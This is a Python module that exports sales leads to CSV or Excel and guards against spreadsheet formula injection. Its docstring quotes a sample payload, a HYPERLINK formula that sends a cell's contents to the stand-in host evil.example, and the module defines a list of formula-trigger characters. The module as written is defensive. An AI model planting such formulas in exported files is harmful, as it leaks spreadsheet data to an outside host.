"""Exporting leads to CSV or Excel: stable machine column names, one row per lead, read in batches.

Every cell the hub writes into a file people open in a spreadsheet goes through ``text_cell`` (CSV) or
``excel_row`` (Excel): the values come from anyone who can post a form, and a name such as
``=HYPERLINK("http://evil.example/?x="&B2, "Click")`` must stay text, never become a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterator
from typing import Any

from sqlalchemy import select
from sqlalchemy.orm import selectinload

from hub.desk.queries import LeadFilter
from hub.mapping import UTM_KEYS
from hub.runtime import Hub
from hub.store.db import transaction
from hub.store.models import Lead, Person, utcnow
from hub.store.serialize import lead_to_dict

COLUMNS = ["id", "created_at", "status", "refuse_reason", "warmth", "score", "owner", "source", "name", "phones",
           "emails", *UTM_KEYS, "touch_count", "contact_attempts", "updated_at"]
BATCH = 1000
# OWASP's CSV-injection rule: a cell starting with one of these is run as a formula by Excel, LibreOffice and
# Google Sheets (a tab or carriage return first hides the rest of it). Such a cell is written after a "'",
# which spreadsheets read as "this is text"; phones in E.164 ("+7…") get it too, which keeps their "+".
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value: Any) -> Any:
    """A CSV cell that a spreadsheet shows as the text it is, never runs as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through ``text_cell``."""

    def __init__(self, out: Any):
        self._writer = csv.writer(out)

    def writerow(self, row: list[Any]) -> Any:
        return self._writer.writerow([text_cell(v) for v in row])


def excel_row(sheet: Any, row: list[Any]) -> list[Any]:
    """An Excel row whose text cells are string cells: openpyxl would otherwise store a value starting with
    "=" as a formula. The text is kept as it is (Excel shows a string cell as text, no "'" needed)."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in row:
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells


def rows(hub: Hub, f: LeadFilter) -> Iterator[list[Any]]:
    last = 0
    while True:
        with transaction(hub.engine, read_only=True) as session:
            query = f.apply(select(Lead).where(Lead.merged_into_id.is_(None), Lead.id > last), utcnow(),
                            hub.config.default_region)
            batch = list(session.scalars(query.order_by(Lead.id).limit(BATCH).options(
                selectinload(Lead.person).selectinload(Person.keys), selectinload(Lead.touches))))
            dicts = [lead_to_dict(lead, with_touches=False) for lead in batch]
        if not dicts:
            return
        for d in dicts:
            first = d["first_touch"] or {}
            yield [d["id"], d["created_at"], d["status"], d["refuse_reason"], d["warmth"], d["score"], d["owner"],
                   d["source"], d["name"], ", ".join(d["phones"]), ", ".join(d["emails"]),
                   *[first.get(k) for k in UTM_KEYS], d["touch_count"], d["contact_attempts"], d["updated_at"]]
        last = dicts[-1]["id"]


def _write_rows(append: Callable[[list[Any]], Any], hub: Hub, f: LeadFilter,
                progress: Callable[[int], Any] | None) -> int:
    append(COLUMNS)
    count = 0
    for row in rows(hub, f):
        append(row)
        count += 1
        if progress and count % BATCH == 0:
            progress(count)
    return count


def export_leads(hub: Hub, f: LeadFilter, fmt: str, path: str, progress: Callable[[int], Any] | None = None) -> int:
    if fmt == "xlsx":
        from openpyxl import Workbook
        book = Workbook(write_only=True)
        sheet = book.create_sheet("leads")
        count = _write_rows(lambda row: sheet.append(excel_row(sheet, row)), hub, f, progress)
        book.save(path)
        return count
    with open(path, "w", encoding="utf-8-sig", newline="") as out:     # the BOM: Excel reads Cyrillic
        return _write_rows(SafeCsvWriter(out).writerow, hub, f, progress)
